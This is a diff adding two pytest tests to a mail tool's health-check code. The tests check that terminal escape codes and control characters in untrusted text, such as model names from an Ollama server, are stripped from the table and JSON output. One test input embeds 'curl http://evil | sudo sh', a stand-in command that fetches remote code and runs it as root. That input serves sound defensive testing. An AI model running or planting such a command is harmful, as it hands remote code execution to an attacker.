@@ -18,6 +18,7 @@ import pytest
 from rcmail import __version__
 from rcmail.config import PostgresConfig
 from rcmail.db.embedded import EmbeddedPostgres
+from rcmail.db.pool import Database
 from rcmail.doctor import Diagnosis
 from rcmail.health.base import Check, Finding, Group, Result, Verdict
 from rcmail.health.monitor import Report
@@ -213,6 +214,29 @@ def diagnosis(*verdicts: Verdict) -> Diagnosis:
 )
 def test_the_exit_code_is_that_of_the_worst(verdicts: list[Verdict], code: int) -> None:
     assert diagnosis(*verdicts).exit_code == code
+
+
+def test_no_text_of_a_stranger_steers_the_terminal() -> None:
+    evil = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\ud800"
+    service = Check("llm", "Language model", lambda: Finding(""), Group.SERVICES)
+    found = Diagnosis(Report((Result(service, Finding(evil, Verdict.WARNING, evil)),)))
+    for text in (found.as_table(width=80, is_colourful=False), found.as_json()):
+        assert all(character.isprintable() or character == "\n" for character in text)
+    assert json.loads(found.as_json())["details"]["llm"] == evil
+
+
+async def test_a_stored_model_and_a_server_that_speak_in_escape_codes_say_nothing_to_root(
+    service_env: Env, folder: Path, database: Database, ollama: FakeOllama
+) -> None:
+    evil = "x` \x1b]0;owned\x07 `curl http://evil | sudo sh"
+    ollama.answers = {"/api/tags": {"models": [{"name": evil}, {"name": "m"}]}, "/api/version": {"version": evil}}
+    await database.fetch("INSERT INTO settings (key, value) VALUES ('llm_model', %s)", (evil,))
+    env = service_env | {"OLLAMA_BASE_URL": ollama.url, "HTTP_PORT": str(free_port())}
+    for option in ([], ["--json"]):
+        result = await asyncio.to_thread(run_rcmail, "check", *option, env=env, cwd=folder)
+        assert "Ollama answers and has 1 model, but none is chosen" in " ".join(result.stdout.split())
+        assert "\x1b" not in result.stdout + result.stderr
+        assert "curl" not in result.stdout + result.stderr
 
 
 def test_the_table_has_colours_where_wanted_and_keeps_to_the_width() -> None:
